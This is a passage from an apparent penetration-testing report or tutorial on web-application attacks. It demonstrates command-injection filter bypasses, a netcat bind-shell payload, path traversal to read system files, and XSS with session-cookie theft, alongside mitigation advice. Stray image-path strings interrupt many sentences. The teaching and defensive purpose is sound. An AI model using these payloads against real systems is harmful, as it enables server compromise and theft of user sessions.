successful execution of the commands. An attacker can still test if they are passingcommands directly to the server through the application through a blind process.
Attacks will be demonstrated that display the techniques of doing this. Instructing a
web application through command injection for instance, to ping itself for 30
seconds and then watching the web applications response to that command can
verify a blind injection. Executing for example, ping n 50 is a tactful
move by a tester to infer blind injection. This command should cause the
application to freeze the request submitted for 50 seconds as it pings
itself( being the loopback host ip) for 50 seconds. If interacting with a web
application with a Linux backend, a command such as ping c 60 where
c denotes the amount of times to send a ping request, should show a noticeable
effect on the application.


The above shows a normal site, allowing you to view the contents of a folder that
you have created. You cannot create or execute files though, or seemingly do
anything else.

In the second screenshot, escaping using the ampersand character and injecting
custom commands is attempted, and seemingly successful.


Screenshot 3 Shows the ip config and directory contents dumped successfully.

Using the | character worked as well to execute commands. The site security was
stepped up to filter command joining characters following the successful attacks. In
the following shot, command injection fails because of character filtering by the
application. | ping

The && characters are reused because of the failure of | to perform a successful
injection. Filtering this command as well, one could look to attempt ; . The
semicolon willallow everything before the semicolon to be executed, and then
anything following the ; to then be passed to a new line for execution. Other
operators to try are $ and . Further filter evasion can be attempted by

performing a %0A ipconfig %0A for example. This is simply the URL encoding of
a whitespace to bypass filters and still allow the command to be passed.

The next shot shows even more security, as nothing is returned to the user upon
input, but we may be able to test for a blind injection. The command injection
appropriate instructs the server to ping itself (host loopback ip= for 30
seconds). If the web application is unresponsive for approximately 30 seconds that
may confirm OS commands are still being passed.


The application gets stuck for 30 seconds, so if the tester

sees it hang on Connecting that is a good sign that command injection is still
successful. This is not the only method to test for blind command execution testing.
A tester can invoke the application to send an email to them, ping a website in their
own control, or write files to an area accessible by the browser. The following
screenshots will show the write file test to be a successful method.

For example: echo "insert whatever text u want" > nyit.txt. If this text file gets
created the tester knows the application is exploitable for more nefarious attacks.
Also worth mentioning, is if one can add their own files, this is a pathway to an
attacker adding shell scripts and other infectious payloads that can cause complete
compromise of the server.


The file was purposely written to an area of the site a basic user has access to, and
as expected, the custom nyit.txt file was created, verifying command injection is
possible even if not overtly stated by the application.
The next attack will outline getting a shell on a website by hacking an
application through remote command injection. This website lets you ping other
sites to see if they areonline. The problem is, this command is passed to the OS
through the user input, allowing us to use escape characters to execute custom
commands against the operating system.

The web application certainly functions correctly, as it indeed pings the IP address I
specified,, but I have added a more nefarious command tothe IP
and chained them together.;mkfifo /tmp/pipe;sh /tmp/pipe | nc -l
1337 > /tmp/pipe is the entire command. This command instructs the server to

open a netcat session on port 1337 for the attacker to connect to. The other
parameters are necessary to interact with the OS with shell access. This is being
done blindly, but if a connection is able to be opened on another machine running
NetCat, success is verified.

The above command is our other machine attempting to connect to the web server
using NetCat, at the servers address, and the appropriate port is listening on.

The connection is confirmed opened based on terminal output. The web

applications back end OS is compromised.

With complete access to the sites server, I execute some Linux commands to view
information about the users logged in. From here further damage and exploit ispossible, as well as further privilege escalation.

The best way to stop OS command injection from occurring is to use
APIs to handle the exact function the website intends to perform, where there is no
other functionality that can be used to be leveraged against a server. This way the
end user is limited, and the web application has a division of labor where no direct
operating system calls can be made. Furthermore, applications should utilize pure
command APIs that launch processes from direct invocation that comes with its
own command parameters instead using a shell interpreter. The shell interpreter
will support the very commandchaining and shell metacharacters that allow custom
command execution outside of the applications built in function. In some
situations, the application must absolutely support direct command input being
passed to the server. If this must occur, severe character whitelisting is
encouraged. Using the ping a website for free application as an example, this
application failed to whitelist only numbers and the .. A character limit should
also be imposed, but there is no reason a function that only takes numbers and .s
should ever except any other characters outside of that. Command injection is
dangerous, so disallowing user supplied input to any function that is dynamic or an
include function is far superior to whitelisting as it avoids command injection as a

File Path Manipulation

Many functions existwithin applications where the app reads and writes
to the file system. More specifically, there exists functionalities in web applications
where user submitted input is passed to the application as a filename. The
application takes a filename as a parameter, or in other cases, the application may
fetch user data as specified by the user, by fetching the file form the local file
systems appropriate directory.
The actual vulnerability exists when the application reads or writes to a
filesystem in such an unsafe manner, that is allows an attacker to submit their own
malformed input to change the waythe application is interactingwith the file
system. Most commonly, this comes in the force of inserting path traversal
sequences into the url parameter. This path traversal attack is also known as the
../ attack because attackers can keep insert the traversal sequence until they hit
the outside directory. Effectively used, an attacker can read unauthorized files, or
make unauthorized writes.
Looking for path traversal vulnerabilities can be a difficult because of its
subtle nature. The tester should focus on obvious functions of the application where
it is explicitly interacting with the file system. Notably this would be any upload and

download function, any function where users are submitting images or documents,
or even sharing documents across a workspace.
Applications attempt to filter the characters used to perform traversal.
This is good practice but can be defeated with custom encoding techniques. An
attack will be shown where encoding the traversal payloads defeat a filter. Types of
encoding of the dot and slash can be:URL, Double URL, UTF-8, and 16 bit Unicode.
With that being said, filters need to be mindful of the different encoding schemes
that the . and the /, as well as the \ can utilize. It has been seen on some
windows application servers that the filter only blocked the \ since that is the
windows default directory separator. Developers forget that both the \ and the /
can be used for traversal, though on Linux servers it is necessary to use /.
Besides heavy sanitization, blacklists, and whitelisting, developers can
also look to simply not have user input be passed to the file system where it isnt
necessary. Most files can be simply placed in theroot directory and accessed by the
url, instead of being passed as a parameter to a file system API. If this cannot be
done, hard coding the file types is necessary. If the application is meant to fetch
pictures, enforcing on JPEGS should perhaps be enforced. After a file isfetched, as a
final step after input validation via filters, the application should utilize the proper
APIs that specify the file accessed within the function, exists within the directory
that is appropriate and not outside of it.
Two traversal attacks will be launched. First, a simple attack and followed by that, a
more advanced attack with automation and payload encoding to bypass the filters.


Let us see if it is possible to travers out of the current directory storing this photo,
and get to the C:\\windows\win.ini configuration file.

By looking at the URL, it took 3 path traversal to complete the attack. While simple
and effective, it should never be this easy.


Since anyone reading this is far familiar at this point with Burp, some previous steps
(intercepting the request) will be skipped. Above the URL is sent to Burp and an
automated attack to bypass the sites filter will be launch. The payload is where the
traversals will be placed.


A preloaded list ofdifferent

path traversal with filter defeating traversals is loaded.

The attack is completed and the results are ordered by the length in bytes of the
response of the application. The second pane on the bottom shows the win.ini
configuration file has been read by the application as we specified. The application

is vulnerable to path traversal when performing double URL encoding on the
traversal characters.

Attacking users with Cross Site Scripting(XSS)

Most of the attacks described previously looked to leverage
vulnerabilities and weaknesses within the server of the web application, and as time
goes on these vulnerabilities are lessoccurring. The number one attack found in
the wild, that may ignore owning a web server, concerns itself with compromising
the client side user. XSS attacks are extremely powerful, and when regarding a
reality where users of an application use different browsing behavior, as well as
different browsers and plugins, attacks against users can be far more profitable and
painless than breaking into application with server side defects. Launching a client
side attack against thousands of users to steal credentials or log keystrokes by
using simple XSS is a more obvious choice for an attackers than trying to break into
a hardened financial corporations server. There are multiple derivatives of XSS and
multiple ways to inject them into web applications to attack users.
Reflected XSS attacks account for 75 percent of all XSS attacks. Web
application developers perform to deliver dynamic content via URL parameters to
users as it allows them to not have to create custom pages individually, in order to
deliver the appropriate content to the user interacting with the application inmultiple ways. For a better understanding, consider error pages. Consider the
custom error page that would be possibly delivered to all users who put the wrong
input into a credit card form field:
alert=incorrect+input. The page comes up and it is shown that the message of
incorrect input is displayed on the page, allowing a tester to infer that the
parameter of alert is being sent back to the client, embedded into the html sent by
theserver. This creates the possibility of crafting custom input in the alert
parameter, such as malicious javascript, which can be used to hijack sessions from
users, among other things. There is a far simpler test for reflective XSS than using a
complex javascript payload. Using a simple alert box popup can test if the site is
potentially vulnerable to a reflected attack. If a user clicks on the link and a
javascript alert box executes on the page, this is a problem. It is seen why the
name of this type of XSS is referred to as reflected, as the application reflects the
attackers payload onto the users browser.


A basic application that takes a users name and delivers it back dynamically is seen
here. The name parameter is of interest to test for.

A tester can now enter a payload to test for in the name parameter, easiest being
an alert box such as : <script>alert()</script. Reloading the link dynamically
shows the script was executed on the clients browser.

A more practical example of this would be a situation where a user logs into a
website and therefore receives a cookie so their session can be validated and
tracked. A malicious attacker who has found a reflected XSS vulnerability on the
specific site can insert a payload that instructs the client uponclicking the link, to
send their cookie in a request to the attackers domain. When the user gets
phished into clicking the link thinking it is safe, the token is sent across domains.
The attacker can then log in with that session cookie. The lack of dynamic cookies
points back to previous sections in this report, where static cookies are generally
insecure. There is common confusion pertaining to XSS where individuals wonder
why an attacker who is able to inject custom scripts cannot just send the user of aparticular site to, and have the users token
stolen from there. Why must the attacker actually inject into the target website and
ask the application to send the token to their hosted malicious site? Browsers have
security implemented in them known as Same Origin Policy. This disallows
cookies being transmitted across domains that are not assigned to that domain and
issued by the particular. XSS defeats this in a way, as it has the vulnerable site
send the token on its behalf. The term cross site scripting should make much
more sense at this point.
The second type of XSS is known as stored, persistent, or second order
XSS. Instead of being reflected by a URL, the attacker can store this malicious
script in the actual database of the web application. This could be forexample, a
messaging inbox for an admin, a forum post, or any area of an application where
content can be submitted and viewed by other users. This is far more dangerous
that reflected XSS attacks for a number of reasons. It was explained that reflective
XSS attacks involve sending a link to a user and hopefully coercing the to click on it
during their actual session, if the intent was to hijack cookies. With stored XSS, the
application spreads the script for you, eliminating the need to send links to users.
Also, it is common sense that if a user is being inflicted against a stored XSS attack,
that they are already in a current session and interacting with the web application.

Seen above, is another seemingly normal web application that involves submitting
input and a name to sign a guestbook. Upon submitting input to the guestbook, it is
stored in the database, and returned back to the browser. The above payload is to
